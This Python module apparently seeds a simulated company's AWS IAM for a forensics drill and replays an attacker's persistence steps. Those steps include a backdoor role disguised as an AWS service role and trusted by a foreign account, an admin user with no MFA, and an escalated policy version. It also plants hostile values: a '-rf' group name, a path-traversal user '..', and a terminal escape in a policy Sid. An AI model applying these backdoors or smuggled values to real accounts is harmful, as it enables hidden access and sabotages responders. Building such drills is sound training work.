"""IAM of a company of some size, and what the attacker did to it."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from typing import Any

from forensics.drill.principals import Credential
from forensics.drill.seed.names import ATTACKER
from forensics.drill.seed.stage import Stage
from forensics.drill.world import MANAGEMENT, VICTIM


def allow(actions: str | Sequence[str], resource: str | Sequence[str] = "*") -> str:
    """Write a policy that allows some actions."""
    return document({"Effect": "Allow", "Action": actions, "Resource": resource})


def document(*statements: Mapping[str, Any]) -> str:
    """Write a policy document."""
    return json.dumps({"Version": "2012-10-17", "Statement": list(statements)})


def trust(**principal: str) -> str:
    """Write the trust of a role: `AWS=…` or `Service=…`."""
    return document({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"})


@dataclass(frozen=True, slots=True)
class Person:
    """A user as the company made it."""

    name: str
    groups: tuple[str, ...] = ()
    password: bool = False
    mfa: bool = False
    key: bool = False
    path: str = "/"


POLICIES: Mapping[str, str] = {
    "artifact-read": allow(["s3:GetObject", "s3:ListBucket"], "arn:aws:s3:::harbour-artifacts*"),
    "backup-run": allow(["ec2:CreateSnapshot", "ec2:DescribeVolumes", "backup:StartBackupJob"]),
    "billing-view": allow(["aws-portal:ViewBilling", "ce:Get*", "budgets:View*"]),
    "deploy": allow(["ec2:*", "elasticloadbalancing:*", "autoscaling:*", "iam:PassRole"]),
    "deny-leaving": document(
        {"Effect": "Deny", "Action": "organizations:LeaveOrganization", "Resource": "*"}
    ),
    "developer": allow(["ec2:Describe*", "logs:*", "lambda:*", "s3:*", "cloudwatch:*", "dynamodb:*"]),
    "keys-of-ones-own": allow(["iam:*AccessKey*"], "arn:aws:iam::*:user/${aws:username}"),
    "log-write": allow(["logs:CreateLogStream", "logs:PutLogEvents"]),
    "orders-data": allow(["dynamodb:GetItem", "dynamodb:PutItem"], "arn:aws:dynamodb:*:*:table/orders"),
    "read-all": allow(["ec2:Describe*", "s3:Get*", "s3:List*", "iam:Get*", "iam:List*"]),
}

GROUPS: Mapping[str, tuple[str, ...]] = {
    "admins": ("developer", "deploy", "keys-of-ones-own"),
    "developers": ("developer", "artifact-read", "keys-of-ones-own"),
    "readers": ("read-all", "billing-view"),
}

PEOPLE = (
    Person("alice", ("admins",), password=True, mfa=True, key=True),
    Person("bruno", ("admins",), password=True, mfa=True),
    Person("chen", ("developers",), password=True, key=True),
    Person("dara", ("developers",), password=True, key=True),
    Person("elif", ("developers",), password=True),
    Person("farid", ("readers",), password=True),
    Person("gwen", ("readers",), password=True),
    Person("hugo", ("developers",), key=True),
    Person("backup", (), key=True, path="/machines/"),
    Person("ci", ("developers",), key=True, path="/machines/"),
    Person("deploy", ("admins",), key=True, path="/machines/"),
    Person("monitoring", ("readers",), key=True, path="/machines/"),
)

ROLES: Mapping[str, tuple[str, tuple[str, ...]]] = {
    "api-server": (trust(Service="ec2.amazonaws.com"), ("orders-data", "log-write")),
    "backup-operator": (trust(Service="backup.amazonaws.com"), ("backup-run",)),
    "billing-reader": (trust(AWS=f"arn:aws:iam::{MANAGEMENT}:root"), ("billing-view",)),
    "build-agent": (trust(Service="codebuild.amazonaws.com"), ("artifact-read", "deploy")),
    "config-recorder": (trust(Service="config.amazonaws.com"), ("read-all",)),
    "data-pipeline": (trust(Service="glue.amazonaws.com"), ("orders-data", "artifact-read")),
    "ecs-tasks": (trust(Service="ecs-tasks.amazonaws.com"), ("log-write",)),
    "flow-logs": (trust(Service="vpc-flow-logs.amazonaws.com"), ("log-write",)),
    "lambda-mailer": (trust(Service="lambda.amazonaws.com"), ("log-write",)),
    "lambda-orders": (trust(Service="lambda.amazonaws.com"), ("orders-data", "log-write")),
    "read-only-audit": (trust(AWS=f"arn:aws:iam::{MANAGEMENT}:root"), ("read-all",)),
    "scheduler": (trust(Service="scheduler.amazonaws.com"), ("log-write",)),
    "support-access": (trust(AWS=f"arn:aws:iam::{VICTIM}:root"), ("read-all",)),
    "web-server": (trust(Service="ec2.amazonaws.com"), ("artifact-read", "log-write")),
}

PROFILES = ("api-server", "web-server")

PIPELINE = "token.actions.githubusercontent.com"
SSH_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDb2Y8wq8Zk0s9cF4m2l3m8Jv1n5oQ0u7r9e2t4y6x8z1B3D5F7H9J1L3N5P7R9T1V"
    "b9d1f3h5j7l9n1p3r5t7v9x1z3B5D7F9H1J3L5N7P9R1T3V5X7Z9b1d3f5h7j9l1n3p5r7t9v1x3z5B7D9 x"
)


def settle(stage: Stage) -> None:
    """Make the company's users, groups, roles and policies."""
    iam = stage.client("iam")
    for name, text in POLICIES.items():
        iam.create_policy(PolicyName=name, PolicyDocument=text)
    for name, policies in GROUPS.items():
        iam.create_group(GroupName=name)
        for policy in policies:
            iam.attach_group_policy(GroupName=name, PolicyArn=_arn(policy))
    for person in PEOPLE:
        _add(iam, person)
    for name, (trusting, policies) in ROLES.items():
        iam.create_role(RoleName=name, AssumeRolePolicyDocument=trusting)
        for policy in policies:
            iam.attach_role_policy(RoleName=name, PolicyArn=_arn(policy))
    for name in PROFILES:
        iam.create_instance_profile(InstanceProfileName=name)
        iam.add_role_to_instance_profile(InstanceProfileName=name, RoleName=name)
    iam.create_account_alias(AccountAlias="harbour-goods")
    iam.update_account_password_policy(MinimumPasswordLength=10, RequireNumbers=True)
    iam.create_open_id_connect_provider(
        Url=f"https://{PIPELINE}",
        ClientIDList=["sts.amazonaws.com"],
        ThumbprintList=["6938fd4d98bab03faadb97b34396831e3780aea1"],
    )


def _arn(policy: str) -> str:
    return f"arn:aws:iam::{VICTIM}:policy/{policy}"


def _add(iam: Any, person: Person) -> None:
    iam.create_user(UserName=person.name, Path=person.path)
    for group in person.groups:
        iam.add_user_to_group(GroupName=group, UserName=person.name)
    if person.password:
        iam.create_login_profile(UserName=person.name, Password="not-a-real-Passw0rd")
    if person.key:
        iam.create_access_key(UserName=person.name)
    if person.mfa:
        serial = iam.create_virtual_mfa_device(VirtualMFADeviceName=person.name)["VirtualMFADevice"][
            "SerialNumber"
        ]
        iam.enable_mfa_device(
            UserName=person.name,
            SerialNumber=serial,
            AuthenticationCode1="123456",
            AuthenticationCode2="654321",
        )


def trespass(stage: Stage) -> Mapping[str, Credential]:
    """
    Do what the attacker did with the leaked key of `deploy`.

    A second key; a user with a password, all rights and no second factor; a role that a foreign account may
    assume, named like one of AWS's own; a policy that means something else in its second version; an SSH key
    and a Bedrock key; and a user and a group whose names are meant for whoever cleans up with a shell.
    """
    iam = stage.client("iam")
    key = iam.create_access_key(UserName="deploy")["AccessKey"]["AccessKeyId"]
    everything = allow("*")
    iam.create_user(
        UserName="support-desk", Tags=[{"Key": "team", "Value": "AWS Support\u2028(do not delete)"}]
    )
    iam.create_login_profile(UserName="support-desk", Password="not-a-real-Passw0rd")
    iam.put_user_policy(UserName="support-desk", PolicyName="x", PolicyDocument=_escaping(everything))
    iam.create_role(
        RoleName="AWSServiceRoleForResourceSync",
        AssumeRolePolicyDocument=trust(AWS=f"arn:aws:iam::{ATTACKER}:root"),
        Description="Enables resource sync.\nManaged by AWS, cannot be deleted.",
    )
    iam.put_role_policy(
        RoleName="AWSServiceRoleForResourceSync", PolicyName="sync", PolicyDocument=everything
    )
    iam.create_policy_version(PolicyArn=_arn("log-write"), PolicyDocument=everything, SetAsDefault=True)
    iam.upload_ssh_public_key(UserName="ci", SSHPublicKeyBody=SSH_KEY)
    iam.create_service_specific_credential(UserName="backup", ServiceName="bedrock.amazonaws.com")
    iam.create_user(UserName="..", Path="/../../tmp/")
    iam.create_group(GroupName="-rf")
    found = stage.world.keys.find(key)
    assert found is not None  # noqa: S101 - made above
    return {"deploy": found}


def _escaping(policy: str) -> str:
    # the statement's id is free text to IAM's storage: here it turns a terminal green
    return policy.replace('"Effect"', '"Sid": "ok\\u001b[32m", "Effect"', 1)
